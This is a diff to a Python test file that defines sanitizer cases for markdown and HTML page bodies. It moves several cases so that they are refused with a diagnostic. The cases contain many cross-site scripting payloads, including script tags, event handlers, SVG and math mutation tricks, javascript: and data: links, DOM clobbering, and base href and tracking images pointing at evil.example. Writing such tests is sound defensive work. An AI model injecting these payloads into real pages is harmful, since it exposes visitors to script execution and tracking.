@@ -1,5 +1,6 @@
-"""Class 5: bodies. Active markup is removed (batch "body"); external resources are refused with a diagnostic;
-user ids cannot collide with the theme's globals. Every payload targets window.__pwned or alert()."""
+"""Class 5: bodies. Active markup is removed (batch "body"); external resources and links with script schemes are
+refused with a diagnostic; user ids cannot collide with the theme's globals. Every payload targets window.__pwned or
+alert()."""
 
 from __future__ import annotations
 
@@ -18,8 +19,10 @@ def _b(id: str, body: str, what: str) -> Case:
 
 
 def _ext(id: str, body: str, what: str, outcome: str = REFUSED, needle: str = "evil.example") -> Case:
+    """A plan whose body loads from elsewhere or links with a script scheme: refused at the line of ``needle``."""
     probe = Case(id=id, cls=5, outcome=outcome, what=what)
     t = probe.token
+    body = body.replace("{p}", P)
     path = f"plans/2022/{id}.md"
     return Case(id=id, cls=5, outcome=outcome, what=what, path=(path,), needles=(needle,),
                 files={path: plan(f"Văn bản {t}.\n\n{body.replace('{t}', t)}\n", title=f"về việc {t}")})
@@ -27,11 +30,11 @@ def _ext(id: str, body: str, what: str, outcome: str = REFUSED, needle: str = "e
 
 CASES = [
     _b("c5-script", "<script>{p}</script>", "raw <script>"),
-    _b("c5-script-uppercase", "<SCRIPT SRC=data:,window.__pwned='{t}'></SCRIPT>", "<SCRIPT SRC=data:>"),
+    _ext("c5-script-uppercase", "<SCRIPT SRC=data:,window.__pwned='{t}'></SCRIPT>", "<SCRIPT SRC=data:>", REFUSED, needle="SCRIPT"),
     _b("c5-img-onerror", "<img src=\"hx.png\" onload=\"{p}\" alt=\"{t}\">", "img onload"),
     _b("c5-svg-onload", "<svg onload=\"{p}\"><circle r=\"1\"/></svg>", "<svg onload>"),
     _b("c5-svg-script", "<svg><script>{p}</script></svg>", "<script> inside <svg>"),
-    _b("c5-svg-xlink", "<svg><a xlink:href=\"javascript:{p}\"><text y=\"9\">{t}</text></a></svg>", "svg xlink:href"),
+    _ext("c5-svg-xlink", "<svg><a xlink:href=\"javascript:{p}\"><text y=\"9\">{t}</text></a></svg>", "svg xlink:href", REFUSED, needle="xlink"),
     _b("c5-svg-animate", "<svg><a><animate attributeName=\"href\" values=\"javascript:{p}\"/><text y=\"9\">{t}</text>"
        "</a></svg>", "svg animate setting href"),
     _b("c5-math", "<math><mtext><table><mglyph><style><img src=\"hx.png\" onload=\"{p}\">", "<math> mXSS"),
@@ -39,11 +42,11 @@ CASES = [
        "noscript parsing differential"),
     _b("c5-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.__pwned='{t}'&lt;/script&gt;\"></iframe>",
        "iframe srcdoc"),
-    _b("c5-object-javascript", "<object data=\"javascript:{p}\">{t}</object>", "object data javascript:"),
+    _ext("c5-object-javascript", "<object data=\"javascript:{p}\">{t}</object>", "object data javascript:", REFUSED, needle="object"),
     _b("c5-form", "<form action=\"https://evil.example/{t}\"><input name=\"q\" value=\"{t}\"><button "
        "formaction=\"javascript:{p}\">Gửi</button></form>", "form posting elsewhere, formaction javascript:"),
     _b("c5-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{p}\">", "meta refresh"),
-    _b("c5-base-href", "<base href=\"https://evil.example/{t}/\">", "<base href> re-rooting every link"),
+    _ext("c5-base-href", "<base href=\"https://evil.example/{t}/\">", "<base href> re-rooting every link", REFUSED, needle="base"),
     _b("c5-style-element", "<style>/*{t}*/ .md-header{display:none}</style>", "<style> element"),
     _b("c5-details-ontoggle", "<details open ontoggle=\"{p}\"><summary>{t}</summary>x</details>", "ontoggle"),
     _b("c5-autofocus-onfocus", "<input autofocus onfocus=\"{p}\" value=\"{t}\">", "autofocus onfocus"),
@@ -56,10 +59,10 @@ CASES = [
     _b("c5-clobber-name", "<img name=\"getElementById\" src=\"hx.png\" alt=\"{t}\"><form name=\"__md_scope\">"
        "{t}</form>", "name= clobbering document"),
     _b("c5-heading-toc", "## &lt;img src=x onerror={p}&gt; {t}\n\nĐoạn.", "escaped markup in a heading (TOC)"),
-    _b("c5-md-link-javascript", "[bấm {t}](javascript:{p})", "markdown link javascript:"),
-    _b("c5-md-link-data", "[bấm {t}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "link data:"),
-    _b("c5-md-reference-javascript", "[bấm {t}][r]\n\n[r]: javascript:{p}", "reference link javascript:"),
-    _b("c5-html-link-spaces", "<a href=\" &#x20;JaVaScRiPt:{p}\">bấm {t}</a>", "spaces and case in href"),
+    _ext("c5-md-link-javascript", "[bấm {t}](javascript:{p})", "markdown link javascript:", REFUSED, needle="javascript"),
+    _ext("c5-md-link-data", "[bấm {t}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "link data:", REFUSED, needle="data:"),
+    _ext("c5-md-reference-javascript", "[bấm {t}][r]\n\n[r]: javascript:{p}", "reference link javascript:", REFUSED, needle="javascript"),
+    _ext("c5-html-link-spaces", "<a href=\" &#x20;JaVaScRiPt:{p}\">bấm {t}</a>", "spaces and case in href", REFUSED, needle="JaVaScRiPt"),
     _b("c5-link-title-breakout", "[bấm {t}](https://example.org/ \"x\\\" onmouseover=\\\"{p}\")", "link title"),
     _b("c5-footnote", "Câu[^1].\n\n[^1]: <img src=\"hx.png\" onload=\"{p}\"> {t}", "footnote"),
     _b("c5-admonition-title", "!!! note \"<img src=hx.png onload={p}> {t}\"\n    Nội dung.", "admonition title"),
@@ -71,7 +74,8 @@ CASES = [
     _ext("c5-ext-img", "<img src=\"https://evil.example/{t}.png\" alt=\"x\">", "external <img> (tracking)"),
     _ext("c5-ext-img-markdown", "![ảnh](https://evil.example/{t}.png)", "external markdown image"),
     _ext("c5-ext-img-protocol-relative", "<img src=\"//evil.example/{t}.png\" alt=\"x\">", "//host image"),
-    _ext("c5-ext-img-uppercase", "<IMG SRC=\"HTTPS://EVIL.EXAMPLE/{t}.PNG\" ALT=\"x\">", "upper-case image"),
+    _ext("c5-ext-img-uppercase", "<IMG SRC=\"HTTPS://EVIL.EXAMPLE/{t}.PNG\" ALT=\"x\">", "upper-case image",
+         needle="EVIL.EXAMPLE"),
     _ext("c5-ext-srcset", "<img src=\"hx.png\" srcset=\"https://evil.example/{t}.png 2x\" alt=\"x\">", "srcset"),
     _ext("c5-ext-picture", "<picture><source srcset=\"https://evil.example/{t}.png\"><img src=\"hx.png\" alt=\"x\">"
          "</picture>", "picture source", EITHER),
